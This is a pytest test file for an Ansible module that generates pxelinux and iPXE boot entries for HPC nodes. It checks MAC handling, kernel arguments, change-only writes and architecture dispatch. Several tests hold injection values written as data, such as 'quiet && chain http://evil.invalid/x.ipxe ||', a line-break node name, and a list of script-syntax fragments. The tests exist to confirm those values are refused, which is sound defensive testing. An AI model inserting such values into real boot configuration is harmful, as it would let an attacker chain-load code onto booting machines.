"""bootconfig: pxelinux/iPXE entries from inventory, kernel arguments, write-only-changed, bad input."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
from bootlink_fixtures import make_pack, rewrite_manifest, tree_snapshot

from ansible_collections.hpc.stateless.plugins.module_utils._paths import temp_name
from ansible_collections.hpc.stateless.plugins.module_utils._deploy.bootconfig import (
    DEFAULT_SQUASHFS_ARGS,
    LOADER_FILES,
    SQUASHFS_URL_PLACEHOLDER,
    STATE_FILE,
    BootConfigError,
    check_kernel_args,
    merge_args,
    normalise_mac,
    ramdisk_kib,
    render,
    unified,
)
from ansible_collections.hpc.stateless.plugins.module_utils._deploy import bootconfig_task
from ansible_collections.hpc.stateless.plugins.module_utils._deploy.bootlink import apply_state
from ansible_collections.hpc.stateless.plugins.module_utils._pack.kernel import DRACUT_KERNEL_ARGS, LIVE_BOOT_KERNEL_ARGS

IMAGES = {"compute": {"layer": "slurm", "formats": ["cpio.zst"], "kernel_args": "console=ttyS0 quiet"},
          "login": {"layer": "login", "formats": ["cpio.gz"], "kernel_args": ["ip=none", "audit=0"]}}


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A boot root where compute v1 (300 MiB uncompressed) is published and served."""
    boot_root = tmp_path / "tftp"
    apply_state({"boot_root": str(boot_root), "image": "compute", "state": "switched",
                 "src": str(make_pack(tmp_path / "out", version="v1", uncompressed_size=300 * 2**20))})
    return boot_root


def nodes(count: int, **extra) -> list[dict]:
    return [{"name": f"n{i:04d}", "mac": f"52:54:00:00:{i >> 8:02x}:{i & 255:02x}", **extra} for i in range(1, count + 1)]


def run(root: Path, node_list: list[dict] | None = None, check_mode: bool = False, **params) -> dict:
    base = {"boot_root": str(root), "images": {"compute": IMAGES["compute"]}, "nodes": node_list or [],
            "lock_timeout": 0, "diff_limit": 50}
    base.update(params)
    return render(base, check_mode=check_mode)


def append_line(text: str) -> list[str]:
    return re.search(r"^  APPEND (.*)$", text, re.M).group(1).split()


# --------------------------------------------------------------------------- MACs


@pytest.mark.parametrize("raw,expected", [
    ("52:54:00:AB:cd:01", "52:54:00:ab:cd:01"),
    ("52-54-00-ab-cd-01", "52:54:00:ab:cd:01"),
    ("525400abcd01", "52:54:00:ab:cd:01"),
    (" 52:54:00:ab:cd:01 ", "52:54:00:ab:cd:01"),
])
def test_mac_spellings(raw, expected):
    assert normalise_mac(raw, "n1.mac") == expected


@pytest.mark.parametrize("raw", ["52:54:00:ab:cd", "52:54:00:ab:cd:01:02", "52:54:00:ab:cd:0g", "52:54-00:ab:cd:01",
                                 "5254.00ab.cd01", "", 525400, None, ["52:54:00:00:00:03", "zz"], "01:00:5e:00:00:01", "00:00:00:00:00:00"])
def test_malformed_mac_is_refused_naming_the_node(root, raw):
    with pytest.raises(BootConfigError, match=r"nodes\[1\] \(n0002\)(\.mac)?(\[1\])?: .*(MAC|multicast|all-zero|required)"):
        run(root, [{"name": "n0001", "mac": "52:54:00:00:00:01"}, {"name": "n0002", "mac": raw}])
    assert not (root / "pxelinux.cfg").exists()


def test_unquoted_yaml_mac_gets_a_hint(root):
    import yaml  # pylint: disable=import-outside-toplevel
    parsed = yaml.safe_load("mac: 52:54:00:12:34:56")["mac"]
    assert isinstance(parsed, int)  # YAML 1.1 base 60: the trap this message is for
    with pytest.raises(BootConfigError, match="quote the MAC in the inventory"):
        run(root, [{"name": "n0001", "mac": parsed}])


def test_duplicate_mac_names_both_nodes(root):
    with pytest.raises(BootConfigError, match=r"n0002\)\.mac: 52:54:00:00:00:01 is also the MAC of node n0001"):
        run(root, [{"name": "n0001", "mac": "52:54:00:00:00:01"}, {"name": "n0002", "mac": "52-54-00-00-00-01"}])


def test_unknown_image_is_refused_naming_node_and_known_images(root):
    with pytest.raises(BootConfigError, match=r"nodes\[0\] \(n0001\)\.image: unknown image 'gpu' \(known images: compute\)"):
        run(root, [{"name": "n0001", "mac": "52:54:00:00:00:01", "image": "gpu"}])
    with pytest.raises(BootConfigError, match=r"default_image: unknown image 'gpu'"):
        run(root, [], default_image="gpu")


def test_image_without_published_version_is_refused_when_used(root):
    images = {"compute": IMAGES["compute"], "login": IMAGES["login"]}
    with pytest.raises(BootConfigError, match=r"image 'login' has no published version .* nodes boot it"):
        run(root, [{"name": "l1", "mac": "52:54:00:00:01:01", "image": "login"}], images=images)
    # Unused and unpublished: simply no entry.
    result = run(root, nodes(1), images=images)
    assert set(result["images"]) == {"compute"}
    assert "LABEL login" not in (root / "pxelinux.cfg/default").read_text()


# --------------------------------------------------------------------------- kernel arguments


def test_merge_args_later_wins_per_key_and_console_device():
    assert merge_args("rdinit=/sbin/init ip=dhcp console=tty0 console=ttyS0,115200n8", "ip=none quiet",
                      "console=ttyS0 console=ttyS1,9600") == \
        "rdinit=/sbin/init ip=none console=tty0 console=ttyS0,115200n8 quiet console=ttyS1,9600"


REAL_ARGS = ["console=ttyS0,115200n8", "console=tty0", "root=live:http://10.0.0.1/tftp/compute%2Bhsn~2/rootfs.squashfs",
             "rd.live.image", "rd.neednet=1", "ip=dhcp", "ip=10.0.0.5::10.0.0.1:255.255.255.0:n1:eth0:off",
             "BOOTIF=01-52-54-00-00-00-01", "initrd=compute+hsn~2/initrd", "rdinit=/sbin/init", "ramdisk_size=524288",
             "crashkernel=256M@16M", "systemd.unit=rescue.target", "nohz_full=1-7", "quiet", "module_blacklist=a,b"]
INJECTIONS = ["&&", "||", "chain;", "#", "${net0/ip}", "$x", "a{b}", 'a"b', "a'b", "a\\b", "a<b", "a>b", "`id`",
              "a\x0bb", "a\x1bb", "a|b", "a&b"]


def test_real_kernel_arguments_pass_unchanged():
    for arg in REAL_ARGS:
        assert merge_args(arg) == arg
    assert check_kernel_args("\t" + " ".join(REAL_ARGS) + " ", "x") == " ".join(REAL_ARGS)
    for template in (DRACUT_KERNEL_ARGS, LIVE_BOOT_KERNEL_ARGS, DEFAULT_SQUASHFS_ARGS):  # what pack records for squashfs
        args = template.replace(SQUASHFS_URL_PLACEHOLDER, "http://10.0.0.1/tftp/compute%2Bhsn~2/rootfs.squashfs")
        assert check_kernel_args(args, "x") == args


@pytest.mark.parametrize("bad", INJECTIONS)
def test_merge_args_refuses_script_syntax(bad):
    with pytest.raises(BootConfigError, match=r"kernel arguments: kernel argument .* holds .*, which iPXE or pxelinux "
                                              r"would read as script syntax"):
        merge_args("rdinit=/sbin/init", f"quiet x{bad}y")
    with pytest.raises(BootConfigError, match=r"^hpc_stateless_images.compute.kernel_args: kernel argument "):
        check_kernel_args(f"quiet x{bad}y", "hpc_stateless_images.compute.kernel_args")


def test_chain_injection_from_the_inventory_is_refused_naming_node_key_and_argument(root):
    before = tree_snapshot(root)
    injection = "quiet && chain http://evil.invalid/x.ipxe ||"
    for params in ({}, {"validate_only": True}, {"check_mode": True}):
        with pytest.raises(BootConfigError, match=r"^nodes\[0\] \(n0001\)\.kernel_args: kernel argument '&&' holds "
                                                  r"'&', .*fix hpc_stateless_boot_kernel_args of the host$"):
            run(root, [{"name": "n0001", "mac": "52:54:00:00:00:01", "kernel_args": injection}], **params)
        with pytest.raises(BootConfigError, match=r"^nodes\[0\] \(n0001\)\.kernel_args: kernel argument '\$\{x\}'"):
            run(root, [{"name": "n0001", "mac": "52:54:00:00:00:01", "kernel_args": ["quiet", "${x}"]}], **params)
        images = {"compute": {"formats": ["cpio.zst"], "kernel_args": "quiet; chain http://evil.invalid/x.ipxe"}}
        with pytest.raises(BootConfigError, match=r"^hpc_stateless_images.compute.kernel_args: kernel argument 'quiet;'"):
            run(root, nodes(1), images=images, **params)
    assert tree_snapshot(root) == before


@pytest.mark.parametrize("option,value,message", [
    ("ip", "dhcp&&chain", r"^ip: kernel argument 'ip=dhcp&&chain' holds '&'"),
    ("ip", "dhcp quiet", r"^ip: kernel argument 'ip=dhcp quiet' holds ' '"),
    ("rdinit", "/sbin/init#", r"^rdinit: kernel argument 'rdinit=/sbin/init#' holds '#'"),
    ("boot_url", "http://10.0.0.1/${x}",
     r"^boot_url 'http://10.0.0.1/\$\{x\}' \(hpc_stateless_boot_url\): the URL goes into iPXE's kernel line"),
])
def test_options_that_reach_the_kernel_line_are_checked(root, option, value, message):
    before = tree_snapshot(root)
    with pytest.raises(BootConfigError, match=message):
        run(root, nodes(1), **{option: value})
    assert tree_snapshot(root) == before


def test_manifest_kernel_args_with_script_syntax_are_refused_naming_the_manifest(tmp_path):
    """A squashfs pack's initrd arguments reach the kernel line: a (signed, even) manifest cannot bring a chain in."""
    boot_root = tmp_path / "tftp"
    apply_state({"boot_root": str(boot_root), "image": "compute", "state": "switched", "format": "squashfs",
                 "src": str(make_pack(tmp_path / "out", version="v1", squashfs=True))})
    v2 = make_pack(tmp_path / "out", version="v2", squashfs=True)
    rewrite_manifest(v2, lambda manifest: manifest["initrd"].update(
        kernel_args="root=live:<URL of the squashfs> rd.live.image && chain http://evil.invalid/x.ipxe ||"), relist=True)
    images = {"compute": {"formats": ["squashfs"], "kernel_args": ""}}
    before = tree_snapshot(boot_root)
    with pytest.raises(BootConfigError, match=r"^image compute version v2: manifest.json initrd.kernel_args: kernel "
                                              r"argument '&&' .*pack the image again"):
        run(boot_root, nodes(1), images=images, boot_url="http://10.0.0.1/tftp", pending_manifests=[str(v2 / "manifest.json")])
    assert tree_snapshot(boot_root) == before


def test_node_name_with_a_line_break_is_refused(root):
    with pytest.raises(BootConfigError, match=r"nodes\[0\]: name 'n1\\nchain http://evil' holds a line break"):
        run(root, [{"name": "n1\nchain http://evil", "mac": "52:54:00:00:00:01"}])
    assert not os.path.exists(root / "pxelinux.cfg")


@pytest.mark.parametrize("size", [0, 1, 300 * 2**20, 256 * 2**20, 2**30 + 5])
def test_ramdisk_size_covers_uncompressed_size(size):
    kib = ramdisk_kib([size, size // 2], 10)
    assert kib * 1024 >= size * 1.10
    assert kib % (256 * 1024) == 0


def test_entries_carry_every_kernel_argument(root):
    run(root, [{"name": "n0001", "mac": "52:54:00:00:00:01", "kernel_args": "systemd.unit=rescue.target quiet"}])
    default = (root / "pxelinux.cfg/default").read_text()
    node = (root / "pxelinux.cfg/01-52-54-00-00-00-01").read_text()

    directives = [line for line in default.splitlines() if line and not line.startswith("#")]
    assert directives[0] == "SERIAL 0 115200"  # pxelinux wants SERIAL first
    assert "DEFAULT compute" in directives
    assert "  KERNEL compute/vmlinuz" in default.splitlines()
    args = append_line(default)
    assert args[0] == "initrd=compute/initrd"
    assert "rdinit=/sbin/init" in args and "ip=dhcp" in args and "quiet" in args
    assert "console=ttyS0,115200n8" in args and "console=ttyS0" not in args
    ramdisk = int(next(a for a in args if a.startswith("ramdisk_size=")).split("=")[1])
    assert ramdisk * 1024 >= 300 * 2**20
    assert "systemd.unit=rescue.target" in append_line(node) and "systemd.unit=rescue.target" not in args
    assert "PROMPT 0" in node and "IPAPPEND 2" in node and "node n0001, image compute" in node

    ipxe = (root / "ipxe/nodes/52-54-00-00-00-01.ipxe").read_text().splitlines()
    assert ipxe[0] == "#!ipxe"
    kernel = next(line for line in ipxe if line.startswith("kernel "))
    assert kernel.startswith("kernel /compute/vmlinuz initrd=initrd rdinit=/sbin/init")
    assert "systemd.unit=rescue.target" in kernel
    assert "initrd --name initrd /compute/initrd" in ipxe and ipxe[-1] == "boot"
    boot = (root / "ipxe/boot.ipxe").read_text()
    assert "chain --autofree nodes/${netX/mac:hexhyp}.ipxe || chain --autofree images/compute.ipxe" in boot
    assert (root / "ipxe/images/compute.ipxe").is_file()


def test_pending_manifest_raises_ramdisk_before_the_switch(root, tmp_path):
    big = make_pack(tmp_path / "out2", version="v2", uncompressed_size=900 * 2**20)
    result = run(root, nodes(1), pending_manifests=[str(big / "manifest.json")])
    assert result["images"]["compute"]["ramdisk_size"] * 1024 >= 900 * 2**20 * 1.1
    # Rollback target (v1) and new version (v2) are both covered: the max wins.
    assert result["images"]["compute"]["ramdisk_size"] == 1024 * 1024


def test_squashfs_image_boots_its_root_from_boot_url(tmp_path):
    boot_root = tmp_path / "tftp"
    apply_state({"boot_root": str(boot_root), "image": "compute", "state": "switched", "format": "squashfs",
                 "src": str(make_pack(tmp_path / "out", version="v1", squashfs=True))})
    images = {"compute": {"formats": ["squashfs"], "kernel_args": ""}}
    with pytest.raises(BootConfigError, match=r"formats: squashfs fetches its root at boot; set boot_url"):
        run(boot_root, nodes(1), images=images)
    run(boot_root, nodes(1), images=images, boot_url="http://10.0.0.1/tftp/")
    args = append_line((boot_root / "pxelinux.cfg/default").read_text())
    assert "root=live:http://10.0.0.1/tftp/compute/rootfs.squashfs" in args
    assert "rd.live.image" in args and "rdinit=/sbin/init" not in args
    ipxe = (boot_root / "ipxe/images/compute.ipxe").read_text()
    assert "kernel http://10.0.0.1/tftp/compute/vmlinuz initrd=initrd" in ipxe


def test_debian_style_names_are_plain_paths_over_tftp_and_quoted_in_http_urls(tmp_path):
    boot_root, image = tmp_path / "tftp", "compute+hsn~2"
    apply_state({"boot_root": str(boot_root), "image": image, "state": "switched", "format": "squashfs",
                 "src": str(make_pack(tmp_path / "out", image=image, version="2026.11.23+site1~rc1", squashfs=True))})
    assert os.readlink(boot_root / image) == f"images/{image}/2026.11.23+site1~rc1"
    images = {image: {"formats": ["squashfs"], "kernel_args": ""}}
    run(boot_root, nodes(1), images=images, default_image=image, boot_url="http://10.0.0.1/tftp")
    pxe = (boot_root / "pxelinux.cfg/default").read_text()
    assert f"KERNEL {image}/vmlinuz" in pxe and f"initrd={image}/initrd" in append_line(pxe)
    assert "root=live:http://10.0.0.1/tftp/compute%2Bhsn~2/rootfs.squashfs" in append_line(pxe)
    ipxe = (boot_root / f"ipxe/images/{image}.ipxe").read_text()
    assert "kernel http://10.0.0.1/tftp/compute%2Bhsn~2/vmlinuz " in ipxe
    assert "initrd --name initrd http://10.0.0.1/tftp/compute%2Bhsn~2/initrd" in ipxe
    run(boot_root, nodes(1), images={image: {"formats": ["cpio.zst"]}}, default_image=image)
    assert f"kernel /{image}/vmlinuz " in (boot_root / f"ipxe/images/{image}.ipxe").read_text()


def test_multiple_macs_get_one_file_each(root):
    run(root, [{"name": "n0001", "mac": ["52:54:00:00:00:01", "52:54:00:00:00:02"]}])
    assert (root / "pxelinux.cfg/01-52-54-00-00-00-01").read_text() == \
        (root / "pxelinux.cfg/01-52-54-00-00-00-02").read_text()


# --------------------------------------------------------------------------- writing only what changed


def test_second_render_writes_nothing(root):
    first = run(root, nodes(50))
    assert first["changed"] and first["written_count"] == 2 * 50 + 3 and first["files"] == 103
    stats = {p: p.stat().st_ino for p in (root / "pxelinux.cfg").iterdir()}
    second = run(root, nodes(50))
    assert not second["changed"] and second["written_count"] == 0 and second["unchanged"] == 103
    assert {p: p.stat().st_ino for p in (root / "pxelinux.cfg").iterdir()} == stats


def test_one_node_changed_rewrites_only_its_files(root):
    node_list = nodes(20)
    run(root, node_list)
    inodes = {p.name: p.stat().st_ino for p in (root / "pxelinux.cfg").iterdir()}
    node_list[4]["kernel_args"] = "debug"
    result = run(root, node_list)
    assert sorted(result["written"]) == ["ipxe/nodes/52-54-00-00-00-05.ipxe", "pxelinux.cfg/01-52-54-00-00-00-05"]
    changed = [name for name, ino in inodes.items() if (root / "pxelinux.cfg" / name).stat().st_ino != ino]
    assert changed == ["01-52-54-00-00-00-05"]  # replaced by rename (new inode), the rest untouched
    assert "debug" in (root / "pxelinux.cfg/01-52-54-00-00-00-05").read_text()


def test_switching_versions_changes_no_config_file(root, tmp_path):
    run(root, nodes(10))
    before = tree_snapshot(root / "pxelinux.cfg")
    apply_state({"boot_root": str(root), "image": "compute", "state": "switched",
                 "src": str(make_pack(tmp_path / "out", version="v2", uncompressed_size=310 * 2**20))})
    assert not run(root, nodes(10))["changed"]
    assert tree_snapshot(root / "pxelinux.cfg") == before


def test_hand_edited_file_is_found_and_restored(root):
    run(root, nodes(3))
    path = root / "pxelinux.cfg/01-52-54-00-00-00-02"
    good = path.read_text()
    path.write_text(good.replace("PROMPT 0", "PROMPT 9"))  # same size, new mtime
    result = run(root, nodes(3))
    assert result["written"] == ["pxelinux.cfg/01-52-54-00-00-00-02"]
    assert path.read_text() == good
    (root / STATE_FILE).write_text("not json")  # a lost or broken state only costs a full compare
    result = run(root, nodes(3))
    assert not result["changed"] and result["unchanged"] == 9


def test_removed_node_loses_its_files_foreign_files_stay(root):
    run(root, nodes(3))
    foreign = root / "pxelinux.cfg/01-aa-bb-cc-dd-ee-ff"
    foreign.write_text("DEFAULT local\n")
    result = run(root, nodes(2))
    assert sorted(result["removed"]) == ["ipxe/nodes/52-54-00-00-00-03.ipxe", "pxelinux.cfg/01-52-54-00-00-00-03"]
    assert not (root / "pxelinux.cfg/01-52-54-00-00-00-03").exists()
    assert foreign.read_text() == "DEFAULT local\n"


def test_check_mode_writes_nothing_and_diffs(root):
    before = tree_snapshot(root)
    result = run(root, nodes(2), check_mode=True)
    assert tree_snapshot(root) == before
    assert result["changed"] and result["written_count"] == 7
    text = "".join(unified(diff) for diff in result["diff"])
    assert "+++ pxelinux.cfg/01-52-54-00-00-00-01" in text and "+  KERNEL compute/vmlinuz" in text
    run(root, nodes(2))
    changed = run(root, nodes(2, kernel_args="debug"), check_mode=True)
    assert changed["written_count"] == 4
    assert any("+  APPEND" in unified(diff) and "debug" in unified(diff) for diff in changed["diff"])


def test_no_temp_files_are_left(root):
    run(root, nodes(5))
    run(root, nodes(5, kernel_args="x"))
    leftovers = [p for p in root.rglob(".*") if p.name not in (".hpc-stateless.lock", STATE_FILE)]
    assert leftovers == []
    assert all(oct(p.stat().st_mode & 0o777) == "0o644" for p in (root / "pxelinux.cfg").iterdir())


def test_a_directory_where_an_entry_goes_is_refused_naming_it_and_nothing_is_written(root):
    """Not a traceback from the rename: an error naming the path, before any entry is written (check mode too)."""
    in_the_way = root / "pxelinux.cfg" / "default"
    (in_the_way / "site-notes").mkdir(parents=True)
    for check_mode in (True, False):
        with pytest.raises(BootConfigError, match=rf"^{re.escape(str(in_the_way))}: a directory where the boot entry "
                                                  r"\(a file\) goes; nothing was written. Move it out"):
            run(root, nodes(3), check_mode=check_mode)
    assert sorted(p.name for p in (root / "pxelinux.cfg").iterdir()) == ["default"]
    assert not (root / "ipxe").exists()
    failed = bootconfig_task.run({"boot_root": str(root), "images": {"compute": IMAGES["compute"]},
                                  "nodes": nodes(1), "lock_timeout": 0}, False, False)
    assert failed["failed"] and str(in_the_way) in failed["msg"]


def test_temp_files_of_a_killed_render_are_removed_by_the_next(root):
    run(root, nodes(2))
    # the names the writer gives its temp files, and one as releases before it named them
    killed = [Path(temp_name(str(root / "pxelinux.cfg/01-52-54-00-00-00-01"))),
              Path(temp_name(str(root / "ipxe/nodes/52-54-00-00-00-02.ipxe"))),
              root / f".{STATE_FILE}.deadbeef"]
    for path in killed:
        path.write_text("half writ")
    foreign = root / "pxelinux.cfg/.site-notes.0123abcd"
    foreign.write_text("not ours")
    assert run(root, nodes(2), check_mode=True)["removed"] == []
    result = run(root, nodes(2))
    assert sorted(result["removed"]) == sorted(str(p.relative_to(root)) for p in killed)
    assert not any(p.exists() for p in killed) and foreign.read_text() == "not ours"


def test_bad_serial_console_is_named(root):
    with pytest.raises(BootConfigError, match=r"serial_console 'com1': want ttyS<N>"):
        run(root, nodes(1), serial_console="com1")


def test_without_serial_console_no_serial_directive(root):
    run(root, nodes(1), serial_console="")
    text = (root / "pxelinux.cfg/default").read_text()
    assert "SERIAL" not in text and "console=ttyS0,115200n8" not in text
    assert "console=ttyS0" in text  # the image's own kernel_args stay


def test_node_kernel_args_must_be_one_line(root):
    with pytest.raises(BootConfigError, match=r"n0001\)\.kernel_args: kernel arguments must be one line"):
        run(root, [{"name": "n0001", "mac": "52:54:00:00:00:01", "kernel_args": "a\nDEFAULT evil"}])
    assert not os.path.exists(root / "pxelinux.cfg")


# --------------------------------------------------------------------------- the PXE boot loader
def _loader_dirs(tmp_path: Path) -> list[str]:
    """Three host directories: pxelinux.0 in the second and third, ldlinux.c32 in the third only."""
    dirs = [tmp_path / "none", tmp_path / "pxelinux", tmp_path / "syslinux"]
    for directory in dirs:
        directory.mkdir()
    (dirs[1] / "pxelinux.0").write_bytes(b"PXE-1\0")
    (dirs[2] / "pxelinux.0").write_bytes(b"PXE-2\0")
    (dirs[2] / "ldlinux.c32").write_bytes(b"LDLINUX\0")
    return [str(d) for d in dirs]


def test_the_first_of_each_loader_file_found_is_copied_once(root, tmp_path):
    dirs = _loader_dirs(tmp_path)
    assert run(root, check_mode=True, loader_dirs=dirs)["written"][:2] == ["ldlinux.c32", "pxelinux.0"]
    assert not (root / "pxelinux.0").exists()
    result = run(root, loader_dirs=dirs)
    assert result["loaders"] == {"pxelinux.0": f"{dirs[1]}/pxelinux.0", "ldlinux.c32": f"{dirs[2]}/ldlinux.c32"}
    assert {"pxelinux.0", "ldlinux.c32"} <= set(result["written"])
    assert (root / "pxelinux.0").read_bytes() == b"PXE-1\0" and (root / "ldlinux.c32").read_bytes() == b"LDLINUX\0"
    assert oct((root / "pxelinux.0").stat().st_mode & 0o777) == "0o644"
    inode = (root / "pxelinux.0").stat().st_ino
    again = run(root, loader_dirs=dirs)
    assert not again["changed"] and (root / "pxelinux.0").stat().st_ino == inode
    # The host's loader was upgraded: the boot root gets the new bytes.
    Path(dirs[1], "pxelinux.0").write_bytes(b"PXE-1b\0")
    assert run(root, loader_dirs=dirs)["written"] == ["pxelinux.0"]
    assert (root / "pxelinux.0").read_bytes() == b"PXE-1b\0"


def test_a_link_under_a_loader_name_is_replaced_not_followed(root, tmp_path):
    dirs = _loader_dirs(tmp_path)
    outside = tmp_path / "outside"
    outside.write_bytes(b"PXE-1\0")  # the same bytes: still replaced, never written through
    (root / "pxelinux.0").symlink_to(outside)
    assert "pxelinux.0" in run(root, loader_dirs=dirs)["written"]
    assert not (root / "pxelinux.0").is_symlink() and outside.read_bytes() == b"PXE-1\0"


def test_no_loader_found_or_asked_copies_nothing(root, tmp_path):
    assert run(root, loader_dirs=[str(tmp_path / "nowhere")])["loaders"] == {}
    assert run(root)["loaders"] == {} and not any((root / name).exists() for name in LOADER_FILES)


def test_a_killed_copy_of_the_loader_is_removed_by_the_next_render(root, tmp_path):
    killed = Path(temp_name(str(root / "pxelinux.0")))
    killed.write_bytes(b"half")
    result = run(root, loader_dirs=_loader_dirs(tmp_path))
    assert killed.name in result["removed"] and not killed.exists()


# --------------------------------------------------------------------------- architectures


def _publish(boot_root: Path, out: Path, image: str, arch: str | None) -> None:
    """Publish and serve ``image`` v1, its manifest naming its kernel's architecture (as pack reads it) or none."""
    directory = make_pack(out, image=image, version="v1")
    if arch is not None:
        rewrite_manifest(directory, lambda m: m["kernel"].update(arch=arch), relist=True)
    apply_state({"boot_root": str(boot_root), "image": image, "state": "switched", "src": str(directory)})


def test_the_entry_point_dispatches_on_buildarch_to_an_image_of_that_architecture(tmp_path):
    boot_root = tmp_path / "tftp"
    for image, arch in (("compute", "amd64"), ("grace", "arm64"), ("ampere", "arm64")):
        _publish(boot_root, tmp_path / "out", image, arch)
    images = {name: IMAGES["compute"] for name in ("compute", "grace", "ampere")}
    result = run(boot_root, images=images, default_image="compute")
    assert result["arch_defaults"] == {"arm64": "ampere"}  # the first arm64 image by name
    assert {name: entry["arch"] for name, entry in result["images"].items()} == \
        {"compute": "amd64", "grace": "arm64", "ampere": "arm64"}
    lines = (boot_root / "ipxe/boot.ipxe").read_text().splitlines()
    chain = "chain --autofree nodes/${netX/mac:hexhyp}.ipxe || chain --autofree images/%s.ipxe"
    # An arm64 iPXE jumps to its block; any other machine falls through to the default image's chain.
    assert lines[2:] == ["iseq ${buildarch} arm64 && goto arch-arm64 ||", chain % "compute", "exit 1",
                         ":arch-arm64", chain % "ampere", "exit 1"]


def test_an_arm64_default_sends_x86_machines_bios_and_uefi_to_the_amd64_image(tmp_path):
    boot_root = tmp_path / "tftp"
    for image, arch in (("compute", "amd64"), ("grace", "arm64")):
        _publish(boot_root, tmp_path / "out", image, arch)
    images = {name: IMAGES["compute"] for name in ("compute", "grace")}
    run(boot_root, images=images, default_image="grace")
    text = (boot_root / "ipxe/boot.ipxe").read_text()
    # A BIOS iPXE (undionly.kpxe) is an i386 build on an x86_64 machine.
    assert "iseq ${buildarch} x86_64 && goto arch-amd64 ||\niseq ${buildarch} i386 && goto arch-amd64 ||\n" in text
    assert text.endswith(":arch-amd64\nchain --autofree nodes/${netX/mac:hexhyp}.ipxe || "
                         "chain --autofree images/compute.ipxe\nexit 1\n")


def test_one_architecture_or_manifests_without_one_keep_the_single_chain(tmp_path):
    boot_root = tmp_path / "tftp"
    _publish(boot_root, tmp_path / "out", "compute", None)  # packed before pack read the kernel's architecture
    _publish(boot_root, tmp_path / "out", "login", "amd64")
    images = {name: IMAGES["compute"] for name in ("compute", "login")}
    result = run(boot_root, images=images, default_image="compute")
    assert result["arch_defaults"] == {"amd64": "login"}  # the default's architecture is unknown
    boot_root2 = tmp_path / "tftp2"
    _publish(boot_root2, tmp_path / "out2", "compute", "amd64")
    _publish(boot_root2, tmp_path / "out2", "login", "amd64")
    result = run(boot_root2, images=images, default_image="compute")
    assert result["arch_defaults"] == {}
    assert (boot_root2 / "ipxe/boot.ipxe").read_text().splitlines()[2:] == [
        "chain --autofree nodes/${netX/mac:hexhyp}.ipxe || chain --autofree images/compute.ipxe"]
